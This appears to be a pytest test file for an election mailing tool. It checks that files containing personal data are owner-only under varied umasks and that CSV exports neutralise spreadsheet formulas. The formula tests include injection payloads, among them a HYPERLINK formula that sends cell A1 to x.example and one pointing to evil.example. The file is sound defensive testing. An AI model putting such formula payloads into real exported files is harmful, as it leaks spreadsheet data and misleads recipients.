"""Files with personal data are the owner's alone, whatever the umask; CSV cells cannot run as formulas."""

from __future__ import annotations

import csv
import datetime as dt
import os
import stat
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest

from mailer import files, store
from mailer.deliver import Worker
from mailer.project import Project
from mailer.service import plan_campaign, schedule_campaign

from .conftest import for_election

PLANNED_AT = dt.datetime(2026, 12, 1, 12, tzinfo=dt.timezone.utc)
ELECTION = dt.date(2027, 4, 14)
MAIL1 = dt.datetime(2027, 2, 3, 9, 30, tzinfo=ZoneInfo("Europe/Amsterdam"))


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


@pytest.fixture(params=[0o022, 0o000, 0o002], ids=["umask022", "umask000", "umask002"])
def umask(request):
    old = os.umask(request.param)
    yield request.param
    os.umask(old)


def test_everything_the_tool_writes_is_owner_only(umask, run, home: Path, project_copy: Path, tmp_path: Path):
    root = project_copy
    chosen = tmp_path / "shared"  # a folder a person chose, which holds other things too
    chosen.mkdir(mode=0o755)
    os.chmod(chosen, 0o755)
    contacts = tmp_path / "lijst.csv"
    contacts.write_text("email,name,party,municipality\nan@ok.nl,An,P,Ede\njoan@ok.nl,Joan,Q,Zeist\n", encoding="utf-8")
    assert run("init", root=root).exit_code == 0
    assert run("contacts", "import", str(contacts), root=root).exit_code == 0
    project = Project.at(for_election(root, ELECTION))
    assert schedule_campaign(project, plan_campaign(project, now=PLANNED_AT), now=PLANNED_AT)
    assert Worker(project, clock=lambda: MAIL1, rate_per_minute=1_000_000).run(once=True).sent == 2
    assert run("build", root=root).exit_code == 0
    assert run("build", "--out", str(chosen / "build"), root=root).exit_code == 0
    assert run("build", "--out", str(chosen), root=root).exit_code == 0
    assert run("preview", "--no-serve", root=root).exit_code == 0
    assert run("preview", "--no-serve", "--out", str(chosen / "preview"), root=root).exit_code == 0
    assert run("simulate", root=root).exit_code == 0
    assert run("simulate", "--out", str(chosen / "simulation"), root=root).exit_code == 0

    written = [home, root / "out", chosen]
    kinds = {"outbox": home / "outbox", "simulation": home / "simulation", "render cache": home / "cache" / "render",
             "build": root / "out" / "gr2026", "preview": root / "out" / "gr2026-preview"}
    for what, folder in kinds.items():
        assert any(p.is_file() for p in folder.rglob("*")), what
    for name in ("campaign.sqlite3", "settings.toml", "worker.lock"):
        assert (home / name).is_file(), name
    checked = 0
    for top in written:
        for path in [top, *top.rglob("*")]:
            if path == chosen:
                assert mode(path) == 0o755  # a chosen folder keeps its mode; what is written in it does not
            elif path.is_dir():
                assert mode(path) == 0o700, path
            else:
                assert mode(path) == 0o600, path
            checked += 1
    assert checked > 100


def test_the_database_and_its_wal_are_owner_only(umask, tmp_path: Path):
    home = tmp_path / "home"
    conn = store.connect(home)
    conn.execute("INSERT INTO meta (key, value) VALUES ('x', 'y')")
    assert mode(home) == 0o700
    for name in (store.DB_NAME, store.DB_NAME + "-wal", store.DB_NAME + "-shm"):
        assert (home / name).exists(), name
        assert mode(home / name) == 0o600, name
    conn.close()


def test_what_older_versions_left_readable_is_tightened_when_opened(run, home: Path):
    assert run("init").exit_code == 0
    # What version 2 made under umask 022.
    os.chmod(home, 0o755)
    for name in (store.DB_NAME, "settings.toml"):
        os.chmod(home / name, 0o644)
    assert run("status").exit_code == 0
    assert mode(home) == 0o700
    assert mode(home / store.DB_NAME) == 0o600
    assert mode(home / "settings.toml") == 0o600


def test_write_private_tightens_a_stale_temporary_file(tmp_path: Path):
    target = tmp_path / "a.eml"
    stale = files.tmp_path(target)
    stale.write_bytes(b"half a message")
    os.chmod(stale, 0o644)
    files.write_private(target, b"whole")
    assert target.read_bytes() == b"whole" and mode(target) == 0o600
    assert not stale.exists()


@pytest.mark.parametrize("value, cell", [
    ("=HYPERLINK(\"https://x.example/?\"&A1,\"klik\")", "'=HYPERLINK(\"https://x.example/?\"&A1,\"klik\")"),
    ("+31 6 1234", "'+31 6 1234"), ("-2+3", "'-2+3"), ("@SUM(1,2)", "'@SUM(1,2)"),
    ("\tindent", "'\tindent"), ("\rreturn", "'\rreturn"), ("Ede", "Ede"), ("", ""), ("a=b", "a=b"),
])
def test_spreadsheet_safe_prefixes_formula_starts(value: str, cell: str):
    assert files.spreadsheet_safe(value) == cell
    assert files.spreadsheet_safe(7) == 7


def test_the_timeline_cannot_run_formulas_in_a_spreadsheet(run, home: Path, tmp_path: Path):
    contacts = tmp_path / "lijst.csv"
    contacts.write_text(
        "email,name,party,municipality\n"
        "an@ok.nl,An,\"=HYPERLINK(\"\"https://evil.example\"\",\"\"klik\"\")\",+31Ede\n"
        "joan@ok.nl,Joan,-Partij,@Zeist\n", encoding="utf-8")
    assert run("contacts", "import", str(contacts)).exit_code == 0
    result = run("simulate")
    assert result.exit_code == 0, result.output
    with (home / "simulation" / "gr2026" / "timeline.csv").open(encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    cells = {(r["party"], r["municipality"]) for r in rows}
    assert cells == {("'=HYPERLINK(\"https://evil.example\",\"klik\")", "'+31Ede"), ("'-Partij", "'@Zeist")}
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), row
